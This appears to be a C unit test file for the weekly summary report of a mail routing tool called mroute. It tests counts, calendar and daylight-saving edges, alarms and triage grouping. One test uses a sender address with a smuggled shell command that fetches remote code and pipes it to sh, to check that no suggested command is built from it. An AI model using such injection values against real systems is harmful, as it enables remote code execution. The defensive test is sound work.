/* SPDX-License-Identifier: MIT */
/*
 * What a summary gathers, from records put down by hand: a week that is counted,
 * weeks at the edges of the calendar, and what is said of each.
 */
#include "summary_scene.h"

/* ---- a week that is counted ---- */

/*
 * W46: press 2, lead 1, triage 1; from Wednesday on.
 * W47: press 1 to 4 after 1, 2, 3, 4 s; lead 5 (points), 6 (always), 7 (points) after
 * 5, 6, 7 s; triage 8 after 8 s; 9 left to triage after 9 s, then a person sent it to
 * press; 10 a loop, to the fallback Maildir after 10 s.
 */
static void
a_week_is_counted(void **state)
{
	struct scene *sc = *state;
	const struct summary *s;
	const char *id;

	for (int i = 0; i < 4; i++)
		mail(sc, W46 + 2 * DAY + i * HOUR, "ann@a.example",
		    i < 2 ? "press" : i < 3 ? "lead" : "triage",
		    i < 3 ? BY_POINTS : BY_BELOW_NEEDS, 1000);
	for (int i = 1; i <= 4; i++)
		mail(sc, MONDAY + 9 * HOUR, "ann@a.example", "press", BY_POINTS, i * 1000);
	for (int i = 5; i <= 7; i++)
		mail(sc, MONDAY + DAY + 10 * HOUR, "bob@b.example", "lead",
		    i == 6 ? BY_ALWAYS : BY_POINTS, i * 1000);
	mail(sc, MONDAY + 2 * DAY, "eve@c.example", "triage", BY_MARGIN, 8000);
	id = mail(sc, MONDAY + 6 * DAY + 23 * HOUR, "ann@a.example", "triage",
	    BY_BELOW_NEEDS, 9000);
	add_decision(sc->l, id, 2, "press", BY_PERSON, "");
	mail(sc, MONDAY + 3 * DAY, "ann@a.example", "", BY_LOOP, 10000);
	s = gather(sc, "2026-W47");

	assert_string_equal(s->key, "2026-W47");
	assert_string_equal(s->title, "Mon 16 Nov to Sun 22 Nov 2026");
	assert_false(s->unfinished || s->first || s->empty || s->observing);
	assert_int_equal(s->total, 10);
	assert_int_equal(s->total_before, 4);
	assert_int_equal(s->by_rules, 7);
	assert_int_equal(s->by_person, 1);
	assert_int_equal(s->triage, 1);
	assert_int_equal(s->other, 1);
	assert_int_equal(s->delivered, 10);
	/* Nearest rank of 10: the 5th, the 10th. */
	assert_int_equal(s->median_ms, 5000);
	assert_int_equal(s->p95_ms, 10000);
	assert_int_equal(s->longest_ms, 10000);
	assert_int_equal(s->n_trend, 2);
	assert_string_equal(s->trend_name[11], "W47");
	assert_string_equal(s->trend_name[10], "W46");
	assert_int_equal(s->trend_total[10], 4);
	assert_true(s->before_partial);
	assert_int_equal(s->n_usual, 0);

	assert_int_equal(s->n_route, 4);
	assert_string_equal(s->route[0].name, "press");
	assert_string_equal(s->route[0].title, "Press and media");
	assert_int_equal(s->route[0].now, 5);
	assert_int_equal(s->route[0].before, 2);
	assert_int_equal(route_of(s, "lead")->now, 3);
	assert_int_equal(route_of(s, "triage")->now, 1);
	assert_true(route_of(s, "triage")->otherwise);
	assert_int_equal(route_of(s, "fallback")->now, 1);
	assert_false(route_of(s, "fallback")->gone);

	assert_int_equal(s->hour[0][9], 4);
	assert_int_equal(s->hour[1][10], 3);
	assert_int_equal(s->hour[6][23], 1);
	assert_int_equal(s->domains, 3);
	assert_int_equal(s->fresh_domains, 2);
	assert_string_equal(s->domain[0].name, "a.example");
	assert_int_equal(s->domain[0].n, 6);
	assert_string_equal(summary_subject(s, sc->f->a),
	    "mroute: week 2026-W47, 10 messages, 70 % routed");
	assert_string_equal(notes_of(sc, s), "* 1 message lies in the fallback Maildir, "
	    "the last resort that no team reads: fallback/new in the spool.\n"
	    "+ Otherwise a good week: 70 % found their way without you, half within 5 s.\n");
	/* The path of the spool was in the mail to whoever reads it. */
	assert_string_equal(s->note[0].todo, "");
	assert_non_null(strstr(text_of(sc, s),
	    "6 more than the week before, when the records began"));
}

/* ---- weeks without anything, or nearly ---- */

static void
nothing_was_ever_recorded(void **state)
{
	struct scene *sc = *state;
	const struct summary *s;

	diary_add(sc->l, record_of_event(NULL, "engine.start", "", W46));
	s = gather(sc, "2026-W47");
	assert_true(s->empty && s->first);
	assert_int_equal(s->n_trend, 1);
	assert_string_equal(notes_of(sc, s), "* No message has come yet.\n");
	assert_null(strchr(text_of(sc, s), '%'));
	assert_string_equal(summary_subject(s, sc->f->a),
	    "mroute: week 2026-W47, no messages");
}

static void
an_empty_week_has_no_shares(void **state)
{
	struct scene *sc = *state;
	const struct summary *s;

	mail(sc, W46, "ann@a.example", "press", BY_POINTS, 1000);
	s = gather(sc, "2026-W47");
	assert_true(s->empty && !s->first);
	assert_string_equal(notes_of(sc, s), "+ No message came in this week.\n");
	assert_null(strchr(text_of(sc, s), '%'));
	assert_non_null(strstr(text_of(sc, s), "1 fewer than the week before"));
}

static void
a_week_to_come_has_not_begun(void **state)
{
	struct scene *sc = *state;
	const struct summary *s;
	struct period p;

	mail(sc, W46, "ann@a.example", "press", BY_POINTS, 1000);
	OK(period_parse_week(sc->zone, "2026-W48", &p, &E));
	s = gather_at(sc, &p, p.from_ms - 1);
	assert_string_equal(notes_of(sc, s), "+ This week has not begun yet.\n");
	s = gather_at(sc, &p, p.from_ms);
	assert_string_equal(notes_of(sc, s), "+ No message came in this week.\n"
	    "+ This week is not over: these are the numbers up to Mon 23 Nov 00:00.\n");
}

static void
a_first_week_with_one_message(void **state)
{
	struct scene *sc = *state;
	const struct summary *s;

	mail(sc, MONDAY + 2 * DAY + 9 * HOUR, "ann@a.example", "press", BY_POINTS, 1000);
	s = gather(sc, "2026-W47");
	assert_true(s->first);
	assert_string_equal(notes_of(sc, s),
	    "+ One message came; it found its way without you, within 1 s.\n"
	    "+ The first week: the records begin on Wed 18 Nov 09:00, and there is "
	    "nothing to compare it with.\n");
	assert_null(strstr(text_of(sc, s), "the week before"));
	assert_null(strstr(text_of(sc, s), "new"));
}

static void
a_week_that_is_not_over_says_so(void **state)
{
	struct scene *sc = *state;
	const struct summary *s;

	mail(sc, W46, "ann@a.example", "press", BY_POINTS, 1000);
	mail(sc, MONDAY, "ann@a.example", "press", BY_POINTS, 1000);
	s = gather_at(sc, &week47, MONDAY + 3 * DAY + 14 * HOUR);
	assert_true(s->unfinished);
	assert_string_equal(notes_of(sc, s),
	    "+ One message came; it found its way without you, within 1 s.\n"
	    "+ This week is not over: these are the numbers up to Thu 19 Nov 14:00.\n");
	assert_non_null(strstr(text_of(sc, s), "so far; 1 in the whole week before"));
}

/* ---- the calendar ---- */

static void
a_week_over_new_year(void **state)
{
	struct scene *sc = *state;
	const struct summary *s;

	/* 31 December 2026, 23:30, and 1 January 2027, 00:30, in Berlin. */
	mail(sc, INT64_C(1798756200000), "ann@a.example", "press", BY_POINTS, 1000);
	mail(sc, INT64_C(1798759800000), "ann@a.example", "press", BY_POINTS, 1000);
	s = gather(sc, "2026-W53");
	assert_string_equal(s->key, "2026-W53");
	assert_int_equal(s->total, 2);
	assert_int_equal(s->hour[3][23], 1);
	assert_int_equal(s->hour[4][0], 1);
	assert_string_equal(s->trend_name[11], "W53");
	assert_string_equal(s->trend_name[10], "W52");
	s = gather(sc, "2027-W01");
	assert_int_equal(s->total, 0);
	assert_int_equal(s->total_before, 2);
	assert_string_equal(s->trend_name[10], "W53");
}

/* 25 October 2026: 02:30 comes twice, and the day has 25 hours. */
static void
a_week_whose_clocks_go_back(void **state)
{
	struct scene *sc = *state;
	const int64_t midnight = INT64_C(1792879200000);	/* 24 Oct 22:00 UTC */
	const struct summary *s;

	mail(sc, midnight + 2 * HOUR + HOUR / 2, "ann@a.example", "press", BY_POINTS, 1000);
	mail(sc, midnight + 3 * HOUR + HOUR / 2, "ann@a.example", "press", BY_POINTS, 1000);
	mail(sc, midnight + 25 * HOUR - 1, "ann@a.example", "press", BY_POINTS, 1000);
	mail(sc, midnight + 25 * HOUR, "ann@a.example", "press", BY_POINTS, 1000);
	s = gather(sc, "2026-W43");
	assert_int_equal(s->total, 3);
	assert_int_equal(s->hour[6][2], 2);
	assert_int_equal(s->hour[6][23], 1);
	assert_int_equal(s->period.to_ms - s->period.from_ms, 169 * HOUR);
}

/* 29 March 2026: there is no 02:30, and the day has 23 hours. */
static void
a_week_whose_clocks_go_forward(void **state)
{
	struct scene *sc = *state;
	const int64_t midnight = INT64_C(1774738800000);	/* 28 Mar 23:00 UTC */
	const struct summary *s;

	mail(sc, midnight + 2 * HOUR - 1, "ann@a.example", "press", BY_POINTS, 1000);
	mail(sc, midnight + 2 * HOUR, "ann@a.example", "press", BY_POINTS, 1000);
	mail(sc, midnight + 23 * HOUR - 1, "ann@a.example", "press", BY_POINTS, 1000);
	mail(sc, midnight + 23 * HOUR, "ann@a.example", "press", BY_POINTS, 1000);
	s = gather(sc, "2026-W13");
	assert_int_equal(s->total, 3);
	assert_int_equal(s->hour[6][1], 1);
	assert_int_equal(s->hour[6][2], 0);
	assert_int_equal(s->hour[6][3], 1);
	assert_int_equal(s->hour[6][23], 1);
	assert_int_equal(s->period.to_ms - s->period.from_ms, 167 * HOUR);
}

/* The records stay; what day they were is asked of the zone that is set now. */
static void
another_time_zone_counts_other_weeks(void **state)
{
	struct scene *sc = *state;

	mail(sc, MONDAY - 1, "ann@a.example", "press", BY_POINTS, 1000);
	mail(sc, MONDAY, "ann@a.example", "press", BY_POINTS, 1000);
	assert_int_equal(gather(sc, "2026-W47")->total, 1);
	calendar_close(&sc->zone);
	OK(calendar_open("Pacific/Auckland", &sc->zone, &E));
	assert_int_equal(gather(sc, "2026-W47")->total, 2);
	assert_int_equal(gather(sc, "2026-W47")->hour[0][11], 1);
	assert_int_equal(gather(sc, "2026-W47")->hour[0][12], 1);
	calendar_close(&sc->zone);
	OK(calendar_open("America/Los_Angeles", &sc->zone, &E));
	assert_int_equal(gather(sc, "2026-W47")->total, 0);
	assert_int_equal(gather(sc, "2026-W46")->total, 2);
}

/* ---- routes come and go ---- */

static void
a_route_that_was_renamed(void **state)
{
	struct scene *sc = *state;
	const struct summary *s;

	mail(sc, W46, "ann@a.example", "buyers", BY_POINTS, 1000);
	mail(sc, MONDAY, "ann@a.example", "lead", BY_POINTS, 1000);
	s = gather(sc, "2026-W47");
	assert_int_equal(s->n_route, 2);
	assert_true(route_of(s, "buyers")->gone);
	assert_string_equal(route_of(s, "buyers")->title, "buyers");
	assert_int_equal(route_of(s, "buyers")->now, 0);
	assert_int_equal(route_of(s, "buyers")->before, 1);
	assert_false(route_of(s, "lead")->gone);
	assert_non_null(strstr(text_of(sc, s), "buyers (gone)"));
	/* Thirteen weeks on nothing of it is left. */
	mail(sc, MONDAY, "ann@a.example", "lead", BY_POINTS, 1000);
	assert_int_equal(gather(sc, "2027-W06")->n_route, 0);
}

static void
an_alias_that_only_observes(void **state)
{
	struct scene *sc = *state;
	const struct summary *s;

	sc->cfg->alias[0].observe = true;
	for (int i = 0; i < 4; i++) {
		const char *id = add_mail(sc->l, MONDAY + i, "ann@a.example");

		add_decision(sc->l, id, 1, "triage", BY_OBSERVE,
		    i < 3 ? "press" : "triage");
		add_done(sc->l, id, 1, 1000);
	}
	mail(sc, W46, "ann@a.example", "press", BY_POINTS, 1000);
	s = gather(sc, "2026-W47");
	assert_int_equal(s->observed, 4);
	assert_int_equal(s->would_be, 3);
	assert_int_equal(route_of(s, "press")->would_be, 3);
	assert_string_equal(notes_of(sc, s), "+ Only observed, as mroute.conf says: 3 of 4 "
	    "messages would have found a route; no mail went there.\n");
	assert_string_equal(summary_subject(s, sc->f->a),
	    "mroute: week 2026-W47, 4 messages");
}

/* ---- what is unusual ---- */

/* Weeks before W47 with that many by rules and left to triage each. */
static void
usual_weeks(struct scene *sc, int weeks, int by_rules, int triage)
{
	for (int w = 1; w <= weeks; w++)
		for (int i = 0; i < by_rules + triage; i++)
			mail(sc, MONDAY - w * WEEK + i * HOUR, "ann@a.example",
			    i < by_rules ? "press" : "triage",
			    i < by_rules ? BY_POINTS : BY_BELOW_NEEDS, 500);
}

static void
this_week(struct scene *sc, int by_rules, int triage, const char *author)
{
	for (int i = 0; i < by_rules + triage; i++)
		mail(sc, MONDAY + i * HOUR, author, i < by_rules ? "press" : "triage",
		    i < by_rules ? BY_POINTS : BY_BELOW_NEEDS, 500);
}

static void
a_usual_week_is_good(void **state)
{
	struct scene *sc = *state;

	usual_weeks(sc, 3, 9, 1);
	this_week(sc, 17, 1, "ann@a.example");
	assert_string_equal(notes_of(sc, gather(sc, "2026-W47")),
	    "+ A good week: 94 % found their way without you, half within 0.5 s.\n");
}

static void
more_triage_than_usual_is_said(void **state)
{
	struct scene *sc = *state;
	const struct summary *s;

	usual_weeks(sc, 3, 19, 1);
	this_week(sc, 15, 10, "ann@a.example");
	s = gather(sc, "2026-W47");
	assert_int_equal(s->n_usual, 3);
	assert_int_equal(s->usual_total, 20);
	assert_int_equal(s->usual_triage, 5);
	assert_string_equal(notes_of(sc, s), "* More than usual was left to a person, as no "
	    "rule was sure: 40 %, where 5 % is usual (the median of the 3 weeks before). What "
	    "it was stands below.\n");
}

static void
a_busy_week_says_where(void **state)
{
	struct scene *sc = *state;

	usual_weeks(sc, 3, 10, 0);
	this_week(sc, 30, 0, "ann@a.example");
	assert_string_equal(notes_of(sc, gather(sc, "2026-W47")), "* A busy week: 30 "
	    "messages, where 10 are usual (the median of the 3 weeks before); press alone had "
	    "20 more than the week before.\n"
	    "+ Otherwise a good week: 100 % found their way without you, half within 0.5 s.\n");
}

static void
a_quiet_week_asks_whether_mail_arrives(void **state)
{
	struct scene *sc = *state;

	usual_weeks(sc, 3, 21, 0);
	assert_string_equal(notes_of(sc, gather(sc, "2026-W47")), "* A quiet week: not one "
	    "message, where 21 are usual (the median of the 3 weeks before). If that is no "
	    "holiday, see that mail still arrives.\n");
}

static void
a_new_sender_of_much_is_named(void **state)
{
	struct scene *sc = *state;

	usual_weeks(sc, 3, 10, 0);
	this_week(sc, 10, 0, "x@blast.example");
	assert_string_equal(notes_of(sc, gather(sc, "2026-W47")), "* blast.example wrote "
	    "for the first time, and 10 messages at once (100 % of all).\n"
	    "+ Otherwise a good week: 100 % found their way without you, half within 0.5 s.\n");
	assert_string_equal(gather(sc, "2026-W47")->note[0].todo, "mroute log --domain "
	    "blast.example --since 2026-11-16 --until 2026-11-22");
	sc->cfg->summary.people = PEOPLE_NONE;
	assert_string_equal(notes_of(sc, gather(sc, "2026-W47")), "* Somebody wrote for the "
	    "first time, and 10 messages at once (100 % of all).\n"
	    "+ Otherwise a good week: 100 % found their way without you, half within 0.5 s.\n");
}

static void
no_stranger_writes_a_command(void **state)
{
	struct scene *sc = *state;
	const struct summary *s;

	usual_weeks(sc, 3, 10, 0);
	this_week(sc, 10, 0, "x@a.example;curl${ifs}x.example|sh");
	s = gather(sc, "2026-W47");
	assert_int_equal(s->n_note, 2);
	assert_non_null(strstr(s->note[0].text, "|sh wrote for the first time"));
	assert_string_equal(s->note[0].todo, "");
}

static void
what_failed_comes_first_and_rules_broken_after(void **state)
{
	struct scene *sc = *state;
	static const char words[] = "550 5.1.1 <ann@company.example>: no such user";
	const char *id = mail(sc, MONDAY, "ann@a.example", "press", BY_POINTS, 0);
	const struct summary *s;

	diary_add(sc->l, record_of_effect(id, 1, EFFECT_READY, MONDAY + 1));
	diary_add(sc->l, attempt(id, 1, MONDAY + 2, "", ""));
	diary_add(sc->l, attempt(id, 1, MONDAY + 3, "perm",
	    words));
	diary_add(sc->l, failed_effect(id, MONDAY + 3, words));
	diary_add(sc->l, record_of_state(id, MESSAGE_FINAL, MONDAY + 4));
	diary_add(sc->l, record_of_event(NULL, EVENT_RULES_BROKEN, "a.rules:1", MONDAY + HOUR));
	mail(sc, MONDAY + DAY, "ann@a.example", "press", BY_POINTS, 0);
	s = gather(sc, "2026-W47");
	assert_int_equal(s->failed, 1);
	assert_int_equal(s->waiting, 1);
	assert_string_equal(notes_of(sc, s),
	    "! 1 delivery failed and was given up; the message went to triage instead. "
	    "company.example said: \"550 5.1.1 <...@company.example>: no such user\"\n"
	    "! The rules have a mistake since Mon 16 Nov 01:00; mail goes by the last ones "
	    "without.\n"
	    "! 1 message is not delivered yet; it came Tue 17 Nov 00:00.\n"
	    "+ The first week: the records begin on Mon 16 Nov 00:00, and there is nothing "
	    "to compare it with.\n");
	assert_string_equal(s->note[0].todo,
	    "mroute log --state failed --since 2026-11-16 --until 2026-11-22");
	assert_int_equal(s->tone, TONE_BAD);
}

static void
rules_that_were_mended_are_no_trouble(void **state)
{
	struct scene *sc = *state;

	this_week(sc, 10, 0, "ann@a.example");
	usual_weeks(sc, 1, 10, 0);
	diary_add(sc->l, record_of_event(NULL, EVENT_RULES_BROKEN, "a.rules:1", MONDAY + HOUR));
	diary_add(sc->l, record_of_event(NULL, EVENT_RULES_MENDED, "", MONDAY + 2 * HOUR));
	assert_string_equal(notes_of(sc, gather(sc, "2026-W47")),
	    "+ A good week: 100 % found their way without you, half within 0.5 s.\n");
}

/* Monday 10:00 and 12:00, a minute each; when disk is over, of Friday 12:00, is as given. */
static const struct summary *
alarmed(struct scene *sc, int64_t over_ms)
{
	this_week(sc, 10, 0, "ann@a.example");
	usual_weeks(sc, 1, 10, 0);
	for (int64_t at = MONDAY + 10 * HOUR; at <= MONDAY + 12 * HOUR; at += 2 * HOUR) {
		diary_add(sc->l, record_of_event(NULL, "alarm.server", "mx is away", at));
		diary_add(sc->l, record_of_event(NULL, "alarm-over.server", "",
		    at + HOUR / 60));
	}
	diary_add(sc->l, record_of_event(NULL, "alarm.disk", "disk is full",
	    MONDAY + 4 * DAY + 12 * HOUR));
	if (over_ms != 0)
		diary_add(sc->l, record_of_event(NULL, "alarm-over.disk", "", over_ms));
	return gather(sc, "2026-W47");
}

static void
an_alarm_that_was_soon_over_is_nothing_to_look_at(void **state)
{
	struct scene *sc = *state;
	const struct summary *s = alarmed(sc, MONDAY + 4 * DAY + 13 * HOUR);

	assert_int_equal(s->tone, TONE_GOOD);
	assert_non_null(strstr(text_of(sc, s),
	    "2  alarm server  over since Mon 16 Nov 12:01: mx is away\n"));
	assert_non_null(strstr(text_of(sc, s),
	    "1  alarm disk  over since Fri 20 Nov 13:00: disk is full\n"));
}

static void
an_alarm_that_is_not_over_is_told_first(void **state)
{
	const struct summary *s = alarmed(*state, 0);

	assert_int_equal(s->note[0].tone, TONE_LOOK);
	assert_string_equal(s->note[0].text, "1 alarm, the last one: disk is full");
	assert_string_equal(s->note[0].todo, "mroute status");
}

/* In the week after. */
static void
an_alarm_that_lasted_is_told_with_its_end(void **state)
{
	const struct summary *s = alarmed(*state, MONDAY + WEEK + HOUR);

	assert_int_equal(s->note[0].tone, TONE_LOOK);
	assert_string_equal(s->note[0].text,
	    "1 alarm, over since Mon 23 Nov 01:00: disk is full");
	assert_string_equal(s->note[0].todo, "");
}

/* ---- lines ---- */

/* In force: the same but for press.2, which was put in a week ago. */
static void
lines_are_idle_only_when_they_had_the_chance(void **state)
{
	struct scene *sc = *state;
	static const char before[] =
	    "version 1\n"
	    "route lead\n  title Wants to buy\n  forward sales\n"
	    "  +60 any has quote\n  +20 any has seats\n"
	    "route press\n  title Press\n  forward sales\n"
	    "  +60 subject has interview\n"
	    "route triage\n  forward sales\n"
	    "otherwise triage\n";
	AUTO(policy_free) struct policy *old =
	    make_policy(conf, before);
	int64_t since = W48 - 90 * DAY - HOUR;	/* 25 August, 00:00 CEST */
	const struct summary *s;

	diary_add(sc->l, (struct record){ .type = RECORD_RULESET, .at_ms = since - DAY,
	    .u.ruleset = { policy_digest(old), policy_snapshot(old) } });
	diary_add(sc->l, record_of_event(NULL, EVENT_RULES_LOADED, policy_digest(old),
	    since - DAY));
	held_by(sc, since - HOUR, "lead", "lead.2");
	held_by(sc, since + HOUR, "press", "press.1");
	held_by(sc, MONDAY + HOUR, "press", "press.1");
	held_by(sc, MONDAY + HOUR, "press", "press.1");
	s = gather(sc, "2026-W47");
	assert_string_equal(s->idle_since, "25 Aug 2026");
	assert_int_equal(s->idle_since_ms, since);
	assert_int_equal(s->idle_total, 2);
	assert_string_equal(s->idle[0].id, "lead.2");
	assert_string_equal(s->idle[0].last, "24 Aug 2026");
	assert_string_equal(s->idle[1].id, "lead.1");
	assert_string_equal(s->idle[1].last, "never");
	assert_int_equal(s->n_earned, 1);
	assert_string_equal(s->earned[0].id, "press.1");
	assert_int_equal(s->earned[0].decisive, 2);

	/* A week before, nobody had looked at lines for 90 days. */
	s = gather(sc, "2026-W46");
	assert_string_equal(s->idle_since, "");
	assert_int_equal(s->idle_total, 0);
}

/* ---- what no rule claimed ---- */

static void
triage_comes_in_groups_with_a_line(void **state)
{
	struct scene *sc = *state;
	static const char *const who[] = { "a@a.example", "b@b.example", "c@c.example",
		"d@d.example" };
	const struct summary *s;
	const char *id;

	for (int i = 0; i < 4; i++) {
		id = add_mail(sc->l, MONDAY + i, who[i]);
		add_decision(sc->l, id, 1, "triage", BY_BELOW_NEEDS, "");
		if (i < 3)
			held(sc, id, "lead", "lead.2", false);
		says(sc, id, i % 2 == 0 ? "Volume discount?" : "Your volume discount",
		    "Hello, is there one?");
		add_done(sc->l, id, 1, 1000);
	}
	id = mail(sc, MONDAY + 9, "e@e.example", "triage", BY_MARGIN, 1000);
	says(sc, id, "Umbrella", "Hello");
	s = gather(sc, "2026-W47");
	assert_int_equal(s->triage, 5);
	assert_int_equal(s->n_group, 1);
	assert_int_equal(s->group[0].n, 4);
	assert_string_equal(s->group[0].words, "volume discount");
	assert_string_equal(s->group[0].line, "+30  subject  has  volume discount");
	assert_string_equal(s->group[0].route, "lead");
	assert_int_equal(s->group[0].n_sample, 0);
	assert_int_equal(s->group[0].n_id, 3);
	assert_int_equal(s->ungrouped, 1);
	sc->cfg->summary.people = PEOPLE_FULL;
	s = gather(sc, "2026-W47");
	assert_string_equal(s->group[0].sample[0], "d@d.example: Your volume discount");
}

/* Four of each in triage; of one two, that is half of them, went to press. */
static void
no_line_that_fits_what_is_routed_already(void **state)
{
	struct scene *sc = *state;
	const struct summary *s;

	for (int i = 0; i < 4; i++) {
		says(sc, mail(sc, MONDAY + i, "x@x.example", "triage", BY_BELOW_NEEDS, 1000),
		    "Volume discount", "Hello");
		says(sc, mail(sc, MONDAY + i, "y@y.example", "triage", BY_BELOW_NEEDS, 1000),
		    "Round table", "Hello");
	}
	says(sc, mail(sc, MONDAY + 9, "a@a.example", "press", BY_POINTS, 1000),
	    "A VOLUME  discount", "");
	says(sc, mail(sc, MONDAY + 9, "b@b.example", "press", BY_ALWAYS, 1000),
	    "Volume discount: an interview", "");
	says(sc, mail(sc, MONDAY + 9, "b@b.example", "press", BY_POINTS, 1000),
	    "Round table", "");
	says(sc, mail(sc, MONDAY - 9, "b@b.example", "press", BY_POINTS, 1000),
	    "Round table", "");
	sc->cfg->summary.people = PEOPLE_FULL;
	s = gather(sc, "2026-W47");
	assert_int_equal(s->n_group, 2);
	assert_string_equal(s->group[0].words, "round table");
	assert_int_equal(s->group[0].elsewhere, 1);
	assert_string_equal(s->group[0].line, "+30  subject  has  round table");
	assert_string_equal(s->group[1].words, "volume discount");
	assert_int_equal(s->group[1].elsewhere, 2);
	assert_string_equal(s->group[1].line, "");
}

#define T_SCENE(f)	cmocka_unit_test_setup_teardown(f, scene_open, scene_close)

int
main(void)
{
	const struct CMUnitTest tests[] = {
		T_SCENE(a_week_is_counted),
		T_SCENE(nothing_was_ever_recorded),
		T_SCENE(an_empty_week_has_no_shares),
		T_SCENE(a_week_to_come_has_not_begun),
		T_SCENE(a_first_week_with_one_message),
		T_SCENE(a_week_that_is_not_over_says_so),
		T_SCENE(a_week_over_new_year),
		T_SCENE(a_week_whose_clocks_go_back),
		T_SCENE(a_week_whose_clocks_go_forward),
		T_SCENE(another_time_zone_counts_other_weeks),
		T_SCENE(a_route_that_was_renamed),
		T_SCENE(an_alias_that_only_observes),
		T_SCENE(a_usual_week_is_good),
		T_SCENE(more_triage_than_usual_is_said),
		T_SCENE(a_busy_week_says_where),
		T_SCENE(a_quiet_week_asks_whether_mail_arrives),
		T_SCENE(a_new_sender_of_much_is_named),
		T_SCENE(no_stranger_writes_a_command),
		T_SCENE(what_failed_comes_first_and_rules_broken_after),
		T_SCENE(rules_that_were_mended_are_no_trouble),
		T_SCENE(an_alarm_that_was_soon_over_is_nothing_to_look_at),
		T_SCENE(an_alarm_that_is_not_over_is_told_first),
		T_SCENE(an_alarm_that_lasted_is_told_with_its_end),
		T_SCENE(lines_are_idle_only_when_they_had_the_chance),
		T_SCENE(triage_comes_in_groups_with_a_line),
		T_SCENE(no_line_that_fits_what_is_routed_already),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
